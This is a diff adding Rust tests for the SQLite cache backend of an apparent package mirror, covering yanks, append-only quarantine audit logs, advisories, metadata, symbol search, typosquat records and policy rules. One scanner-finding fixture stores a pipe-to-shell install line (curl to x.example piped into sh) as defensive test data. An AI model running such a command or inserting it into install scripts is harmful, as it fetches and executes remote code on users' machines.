@@ -4,8 +4,15 @@ use sqlx::SqlitePool;
 
 use crate::CacheBackendTrait;
 use crate::cache::{
+    GemFindingRecord, GemSymbolRecord,
+    advisory::{Advisory, AdvisorySeverity, AffectedPackage, AffectedRange, RangeEvent},
+    quarantine::{QuarantineAction, QuarantineEvent, VersionStatus},
     sqlite::SqliteCacheBackend,
-    types::{AssetKey, AssetKind, CachedAsset, DependencyKind, GemDependency, GemMetadata},
+    types::{
+        AssetKey, AssetKind, CachedAsset, DependencyKind, Ecosystem, GemDependency, GemFinding,
+        GemMetadata, GemSymbol, PackageDependency, PackageLicense, PackageMetadata,
+        StoredPolicyRule, SuspiciousName, UpstreamYank,
+    },
 };
 
 async fn setup_test_db() -> SqliteCacheBackend {
@@ -131,6 +138,7 @@ async fn test_cache_backend_initialization() {
         stats.is_ok(),
         "Should be able to query initialized database"
     );
+    backend.ping().await.expect("Ping should succeed");
 }
 
 #[tokio::test]
@@ -523,6 +531,7 @@ fn sample_metadata() -> GemMetadata {
         size_bytes: 42_000,
         sha256: "deadbeefcafebabefeedface0123456789abcdef0123456789abcdefabcd".to_string(),
         sbom: None,
+        sbom_generator: None,
     }
 }
 
@@ -637,3 +646,645 @@ async fn catalog_languages_and_filters() {
         .expect("c total");
     assert_eq!(c_total, 1);
 }
+
+#[tokio::test]
+async fn upstream_yanks_are_recorded_once_and_joined_with_downloads() {
+    let backend = setup_test_db().await;
+
+    for (kind, name, version) in [
+        (AssetKind::Gem, "rack", "3.0.0"),
+        (AssetKind::Gem, "rack", "3.0.1"),
+        (AssetKind::Crate, "rack", "3.0.0"),
+    ] {
+        let key = AssetKey {
+            kind,
+            name,
+            version,
+            platform: None,
+        };
+        backend
+            .insert_or_replace(&key, "/cache/asset", "hash", 10)
+            .await
+            .expect("insert asset");
+    }
+
+    let cached = backend
+        .cached_versions(AssetKind::Gem)
+        .await
+        .expect("cached versions");
+    assert_eq!(cached.len(), 2);
+    assert_eq!(
+        backend
+            .cached_package_versions(AssetKind::Gem, "rack")
+            .await
+            .expect("package versions"),
+        vec!["3.0.0".to_string(), "3.0.1".to_string()]
+    );
+    assert_eq!(
+        backend
+            .cached_package_versions(AssetKind::Crate, "rack")
+            .await
+            .expect("package versions"),
+        vec!["3.0.0".to_string()]
+    );
+
+    let yank = UpstreamYank {
+        ecosystem: Ecosystem::RubyGems,
+        name: "rack".to_string(),
+        version: "3.0.0".to_string(),
+        platform: None,
+        reason: "yanked".to_string(),
+        detected_at: chrono::Utc::now(),
+    };
+    assert!(backend.record_upstream_yank(&yank).await.expect("record"));
+    assert!(
+        !backend.record_upstream_yank(&yank).await.expect("record"),
+        "second record is a no-op"
+    );
+
+    let gem_key = AssetKey {
+        kind: AssetKind::Gem,
+        name: "rack",
+        version: "3.0.0",
+        platform: None,
+    };
+    let found = backend
+        .get_upstream_yank(&gem_key)
+        .await
+        .expect("lookup")
+        .expect("yank recorded");
+    assert_eq!(found.reason, "yanked");
+    assert_eq!(found.platform, None);
+
+    let crate_key = AssetKey {
+        kind: AssetKind::Crate,
+        ..gem_key
+    };
+    assert!(
+        backend
+            .get_upstream_yank(&crate_key)
+            .await
+            .expect("lookup")
+            .is_none(),
+        "yanks are scoped to their ecosystem"
+    );
+
+    let since = chrono::Utc::now() - chrono::Duration::days(1);
+    let recent = backend
+        .recently_downloaded_yanks(since, 10)
+        .await
+        .expect("recent yanks");
+    assert_eq!(recent.len(), 1);
+    assert_eq!(recent[0].yank.version, "3.0.0");
+    assert!(!recent[0].last_accessed.is_empty());
+
+    let future = chrono::Utc::now() + chrono::Duration::days(1);
+    assert!(
+        backend
+            .recently_downloaded_yanks(future, 10)
+            .await
+            .expect("recent yanks")
+            .is_empty()
+    );
+}
+
+#[tokio::test]
+async fn quarantine_events_are_append_only_and_newest_first() {
+    let backend = setup_test_db().await;
+    let now = chrono::Utc::now();
+
+    for (offset, version, action, actor) in [
+        (2, "1.0.0", QuarantineAction::Approve, "alice"),
+        (1, "1.0.0", QuarantineAction::Release, "bob"),
+        (0, "2.0.0", QuarantineAction::Block, "carol"),
+    ] {
+        backend
+            .record_quarantine_event(&QuarantineEvent {
+                id: 0,
+                name: "rack".to_string(),
+                version: version.to_string(),
+                platform: None,
+                action,
+                actor: actor.to_string(),
+                reason: Some("reviewed".to_string()),
+                previous_status: Some(VersionStatus::Quarantine),
+                created_at: now - chrono::Duration::minutes(offset),
+            })
+            .await
+            .expect("record event");
+    }
+
+    let all = backend
+        .quarantine_events("rack", None, 10)
+        .await
+        .expect("history");
+    let actors: Vec<_> = all.iter().map(|e| e.actor.as_str()).collect();
+    assert_eq!(actors, ["carol", "bob", "alice"]);
+    assert_eq!(all[0].action, QuarantineAction::Block);
+    assert_eq!(all[0].previous_status, Some(VersionStatus::Quarantine));
+
+    let one = backend
+        .quarantine_events("rack", Some("1.0.0"), 10)
+        .await
+        .expect("version history");
+    assert_eq!(one.len(), 2);
+
+    let recent = backend
+        .recent_quarantine_events(1)
+        .await
+        .expect("recent history");
+    assert_eq!(recent[0].actor, "carol");
+
+    let update = sqlx::query("UPDATE quarantine_events SET actor = 'mallory'")
+        .execute(&backend.pool)
+        .await;
+    assert!(update.is_err(), "audit rows must not be rewritten");
+    let delete = sqlx::query("DELETE FROM quarantine_events")
+        .execute(&backend.pool)
+        .await;
+    assert!(delete.is_err(), "audit rows must not be deleted");
+}
+
+#[tokio::test]
+async fn advisories_are_replaced_on_reimport_and_split_per_package() {
+    let backend = setup_test_db().await;
+    let affected = |ecosystem, name: &str, fixed: &str| AffectedPackage {
+        ecosystem,
+        name: name.to_string(),
+        ranges: vec![AffectedRange {
+            events: vec![
+                RangeEvent::Introduced("0".to_string()),
+                RangeEvent::Fixed(fixed.to_string()),
+            ],
+        }],
+        versions: Vec::new(),
+    };
+    let mut advisory = Advisory {
+        id: "GHSA-test-0001".to_string(),
+        summary: Some("Header injection".to_string()),
+        details: None,
+        severity: AdvisorySeverity::High,
+        aliases: vec!["CVE-2024-0001".to_string()],
+        url: None,
+        published: None,
+        modified: chrono::Utc::now(),
+        withdrawn: None,
+        affected: vec![
+            affected(Ecosystem::RubyGems, "rack", "3.0.1"),
+            affected(Ecosystem::Npm, "rack", "1.0.0"),
+        ],
+    };
+    backend.upsert_advisory(&advisory).await.expect("upsert");
+
+    let found = backend
+        .advisories_for_package(Ecosystem::RubyGems, "rack")
+        .await
+        .expect("lookup");
+    assert_eq!(found.len(), 1);
+    assert_eq!(found[0].severity, AdvisorySeverity::High);
+    assert_eq!(found[0].aliases, ["CVE-2024-0001"]);
+    assert_eq!(found[0].affected.len(), 1);
+    assert_eq!(found[0].affected[0].fixed_versions(), ["3.0.1"]);
+
+    advisory.severity = AdvisorySeverity::Critical;
+    advisory.affected.truncate(1);
+    backend.upsert_advisory(&advisory).await.expect("reimport");
+
+    assert_eq!(backend.advisory_count().await.expect("count"), 1);
+    assert!(
+        backend
+            .advisories_for_package(Ecosystem::Npm, "rack")
+            .await
+            .expect("npm lookup")
+            .is_empty()
+    );
+    let found = backend
+        .advisories_for_package(Ecosystem::RubyGems, "rack")
+        .await
+        .expect("lookup");
+    assert_eq!(found[0].severity, AdvisorySeverity::Critical);
+}
+
+#[tokio::test]
+async fn package_metadata_round_trips_per_ecosystem() {
+    let backend = setup_test_db().await;
+    let mut metadata = PackageMetadata {
+        ecosystem: Ecosystem::CratesIo,
+        name: "serde".to_string(),
+        version: "1.0.200".to_string(),
+        description: Some("A serialization framework".to_string()),
+        license: Some("MIT OR Apache-2.0".to_string()),
+        authors: vec!["Erick Tryzelaar".to_string()],
+        homepage: None,
+        repository: Some("https://github.com/serde-rs/serde".to_string()),
+        dependencies: vec![PackageDependency {
+            name: "serde_derive".to_string(),
+            requirement: "=1.0.200".to_string(),
+            kind: "normal".to_string(),
+            optional: true,
+            target: None,
+        }],
+        features: [("derive".to_string(), vec!["serde_derive".to_string()])]
+            .into_iter()
+            .collect(),
+        attributes: json!({ "build_script": true, "proc_macro": false }),
+        size_bytes: 78_000,
+        sha256: "abc".to_string(),
+        sbom: None,
+        sbom_generator: None,
+    };
+    backend
+        .upsert_package_metadata(&metadata)
+        .await
+        .expect("insert");
+
+    metadata.sbom = Some(json!({ "bomFormat": "CycloneDX" }));
+    metadata.sbom_generator = Some("vein/0.0.0".to_string());
+    backend
+        .upsert_package_metadata(&metadata)
+        .await
+        .expect("update");
+
+    let stored = backend
+        .package_metadata(Ecosystem::CratesIo, "serde", "1.0.200")
+        .await
+        .expect("lookup")
+        .expect("row present");
+    assert_eq!(stored, metadata);
+
+    assert!(
+        backend
+            .package_metadata(Ecosystem::Npm, "serde", "1.0.200")
+            .await
+            .expect("npm lookup")
+            .is_none()
+    );
+}
+
+#[tokio::test]
+async fn searches_gem_symbols() {
+    let backend = setup_test_db().await;
+    let record = |symbol_type, symbol_name, parent_name| GemSymbolRecord {
+        gem_name: "acme",
+        gem_version: "1.0.0",
+        gem_platform: Some("ruby"),
+        file_path: "lib/acme.rb",
+        symbol_type,
+        symbol_name,
+        parent_name,
+        line_number: Some(3),
+    };
+    backend
+        .insert_symbols(&[
+            record("module", "Acme", None),
+            record("class", "Acme::Client", Some("Acme")),
+            record("method", "Acme::Client#fetch_all", Some("Acme::Client")),
+            record("method", "Acme::Client#fetchXall", Some("Acme::Client")),
+            record(
+                "singleton_method",
+                "Acme::Client.build",
+                Some("Acme::Client"),
+            ),
+        ])
+        .await
+        .expect("insert symbols");
+
+    let exact = backend
+        .search_symbols("Acme::Client", None, 10)
+        .await
+        .expect("exact search");
+    assert_eq!(exact.len(), 1);
+    assert_eq!(exact[0].symbol_type, "class");
+    assert_eq!(exact[0].parent_name.as_deref(), Some("Acme"));
+    assert_eq!(exact[0].gem_platform.as_deref(), Some("ruby"));
+    assert_eq!(exact[0].line_number, Some(3));
+
+    let names = |symbols: Vec<GemSymbol>| -> Vec<String> {
+        symbols
+            .into_iter()
+            .map(|symbol| symbol.symbol_name)
+            .collect()
+    };
+    assert_eq!(
+        names(backend.search_symbols("Acme::*", None, 10).await.unwrap()),
+        [
+            "Acme::Client",
+            "Acme::Client#fetchXall",
+            "Acme::Client#fetch_all",
+            "Acme::Client.build",
+        ]
+    );
+    assert_eq!(
+        names(
+            backend
+                .search_symbols("*", Some("method"), 10)
+                .await
+                .unwrap()
+        ),
+        ["Acme::Client#fetchXall", "Acme::Client#fetch_all"]
+    );
+    assert_eq!(
+        names(
+            backend
+                .search_symbols("*#fetch_all", None, 10)
+                .await
+                .unwrap()
+        ),
+        ["Acme::Client#fetch_all"],
+        "underscore matches literally"
+    );
+    assert_eq!(backend.search_symbols("*", None, 2).await.unwrap().len(), 2);
+
+    backend
+        .clear_symbols("acme", "1.0.0", Some("ruby"))
+        .await
+        .expect("clear symbols");
+    assert!(
+        backend
+            .search_symbols("*", None, 10)
+            .await
+            .unwrap()
+            .is_empty()
+    );
+}
+
+#[tokio::test]
+async fn replaces_gem_findings() {
+    let backend = setup_test_db().await;
+    let finding = |rule, line| GemFindingRecord {
+        rule,
+        file_path: "ext/shady/extconf.rb",
+        line_number: Some(line),
+        excerpt: "system(\"curl -s https://x.example | sh\")",
+    };
+    backend
+        .replace_findings(
+            "shady",
+            "0.0.1",
+            Some("ruby"),
+            &[finding("pipe_to_shell", 4), finding("install_network", 4)],
+        )
+        .await
+        .expect("store findings");
+    backend
+        .replace_findings(
+            "other",
+            "1.0.0",
+            Some("ruby"),
+            &[finding("obfuscated_eval", 9)],
+        )
+        .await
+        .expect("store other findings");
+
+    let stored = backend
+        .gem_findings("shady", "0.0.1", Some("ruby"))
+        .await
+        .expect("load findings");
+    let rules: Vec<&str> = stored.iter().map(|finding| finding.rule.as_str()).collect();
+    assert_eq!(rules, ["install_network", "pipe_to_shell"]);
+    assert_eq!(
+        stored[0],
+        GemFinding {
+            gem_name: "shady".to_string(),
+            gem_version: "0.0.1".to_string(),
+            gem_platform: Some("ruby".to_string()),
+            rule: "install_network".to_string(),
+            file_path: "ext/shady/extconf.rb".to_string(),
+            line_number: Some(4),
+            excerpt: "system(\"curl -s https://x.example | sh\")".to_string(),
+        }
+    );
+
+    let recent = backend.recent_findings(2).await.expect("recent findings");
+    assert_eq!(recent.len(), 2);
+    assert_eq!(recent[0].gem_name, "other");
+
+    backend
+        .replace_findings("shady", "0.0.1", Some("ruby"), &[])
+        .await
+        .expect("clear findings");
+    assert!(
+        backend
+            .gem_findings("shady", "0.0.1", Some("ruby"))
+            .await
+            .unwrap()
+            .is_empty()
+    );
+    assert_eq!(backend.recent_findings(10).await.unwrap().len(), 1);
+}
+
+#[tokio::test]
+async fn ranks_popular_packages_by_downloads() {
+    let backend = setup_test_db().await;
+    let cache = |name: &'static str, version: &'static str| AssetKey {
+        kind: AssetKind::Gem,
+        name,
+        version,
+        platform: None,
+    };
+    for key in [
+        cache("rack", "3.0.0"),
+        cache("rack", "3.1.0"),
+        cache("rails", "7.0.0"),
+        cache("zeitwerk", "2.6.0"),
+    ] {
+        backend
+            .insert_or_replace(&key, "/cache/file.gem", "abc", 10)
+            .await
+            .expect("insert asset");
+    }
+    // Cache hits count as downloads
+    for _ in 0..3 {
+        backend
+            .get(&cache("rails", "7.0.0"))
+            .await
+            .expect("load asset");
+    }
+    backend
+        .insert_or_replace(
+            &AssetKey {
+                kind: AssetKind::Crate,
+                name: "serde",
+                version: "1.0.0",
+                platform: None,
+            },
+            "/cache/serde.crate",
+            "def",
+            10,
+        )
+        .await
+        .expect("insert crate");
+
+    let popular = backend
+        .popular_packages(AssetKind::Gem, 2)
+        .await
+        .expect("popular gems");
+    assert_eq!(popular, ["rails", "rack"]);
+}
+
+#[tokio::test]
+async fn records_suspicious_names() {
+    let backend = setup_test_db().await;
+    let seen_at = |seconds: i64| {
+        chrono::DateTime::from_timestamp(1_700_000_000 + seconds, 0).expect("valid timestamp")
+    };
+    let suspicious = |name: &str, similar_to: &str, seconds| SuspiciousName {
+        ecosystem: Ecosystem::RubyGems,
+        name: name.to_string(),
+        technique: "edit_distance".to_string(),
+        similar_to: Some(similar_to.to_string()),
+        action: "warn".to_string(),
+        hits: 1,
+        first_seen: seen_at(seconds),
+        last_seen: seen_at(seconds),
+    };
+
+    backend
+        .record_suspicious_name(&suspicious("nokogiru", "nokogiri", 0))
+        .await
+        .expect("record name");
+    backend
+        .record_suspicious_name(&suspicious("rials", "rails", 10))
+        .await
+        .expect("record other name");
+    backend
+        .record_suspicious_name(&SuspiciousName {
+            action: "block".to_string(),
+            ..suspicious("nokogiru", "nokogiri", 20)
+        })
+        .await
+        .expect("record repeat");
+
+    assert_eq!(backend.suspicious_name_count().await.unwrap(), 2);
+    let names = backend.suspicious_names(10).await.expect("list names");
+    assert_eq!(names.len(), 2);
+    assert_eq!(
+        names[0],
+        SuspiciousName {
+            action: "block".to_string(),
+            hits: 2,
+            first_seen: seen_at(0),
+            ..suspicious("nokogiru", "nokogiri", 20)
+        }
+    );
+    assert_eq!(names[1].name, "rials");
+}
+
+#[tokio::test]
+async fn lists_package_licenses_across_ecosystems() {
+    let backend = setup_test_db().await;
+    backend
+        .upsert_metadata(&GemMetadata {
+            licenses: vec!["MIT".to_string(), "Ruby".to_string()],
+            ..sample_metadata()
+        })
+        .await
+        .expect("store rack");
+    backend
+        .upsert_metadata(&GemMetadata {
+            name: "legacy".to_string(),
+            licenses: Vec::new(),
+            ..sample_metadata()
+        })
+        .await
+        .expect("store legacy");
+    backend
+        .upsert_package_metadata(&PackageMetadata {
+            ecosystem: Ecosystem::Npm,
+            name: "left-pad".to_string(),
+            version: "1.3.0".to_string(),
+            description: None,
+            license: Some("WTFPL".to_string()),
+            authors: Vec::new(),
+            homepage: None,
+            repository: None,
+            dependencies: Vec::new(),
+            features: Default::default(),
+            attributes: json!({}),
+            size_bytes: 1_000,
+            sha256: "abc".to_string(),
+            sbom: None,
+            sbom_generator: None,
+        })
+        .await
+        .expect("store left-pad");
+
+    let licenses = backend.package_licenses().await.expect("list licenses");
+    assert_eq!(
+        licenses,
+        [
+            PackageLicense {
+                ecosystem: Ecosystem::Npm,
+                name: "left-pad".to_string(),
+                version: "1.3.0".to_string(),
+                platform: None,
+                license: Some("WTFPL".to_string()),
+            },
+            PackageLicense {
+                ecosystem: Ecosystem::RubyGems,
+                name: "legacy".to_string(),
+                version: "2.2.8".to_string(),
+                platform: Some("ruby".to_string()),
+                license: None,
+            },
+            PackageLicense {
+                ecosystem: Ecosystem::RubyGems,
+                name: "rack".to_string(),
+                version: "2.2.8".to_string(),
+                platform: Some("ruby".to_string()),
+                license: Some("(MIT) OR (Ruby)".to_string()),
+            },
+        ]
+    );
+}
+
+#[tokio::test]
+async fn saves_and_deletes_policy_rules() {
+    let backend = setup_test_db().await;
+    let created_at = |seconds: i64| {
+        chrono::DateTime::from_timestamp(1_700_000_000 + seconds, 0).expect("valid timestamp")
+    };
+    let native = StoredPolicyRule {
+        id: "no-native".to_string(),
+        ecosystem: Some(Ecosystem::RubyGems),
+        package: "*".to_string(),
+        versions: None,
+        platform: Some("x86_64-*".to_string()),
+        attributes: json!({ "has_native_extensions": true }),
+        action: "require_approval".to_string(),
+        reason: Some("native code needs review".to_string()),
+        created_at: created_at(10),
+    };
+    let legacy = StoredPolicyRule {
+        id: "old-rails".to_string(),
+        ecosystem: None,
+        package: "rails".to_string(),
+        versions: Some("< 6".to_string()),
+        platform: None,
+        attributes: json!({}),
+        action: "deny".to_string(),
+        reason: None,
+        created_at: created_at(0),
+    };
+
+    backend.save_policy_rule(&native).await.expect("save rule");
+    backend
+        .save_policy_rule(&legacy)
+        .await
+        .expect("save other rule");
+    let updated = StoredPolicyRule {
+        action: "quarantine".to_string(),
+        ..native.clone()
+    };
+    backend
+        .save_policy_rule(&updated)
+        .await
+        .expect("replace rule");
+
+    let rules = backend.policy_rules().await.expect("list rules");
+    assert_eq!(rules, vec![legacy.clone(), updated]);
+
+    assert!(backend.delete_policy_rule("no-native").await.unwrap());
+    assert!(!backend.delete_policy_rule("no-native").await.unwrap());
+    assert_eq!(backend.policy_rules().await.unwrap(), vec![legacy]);
+}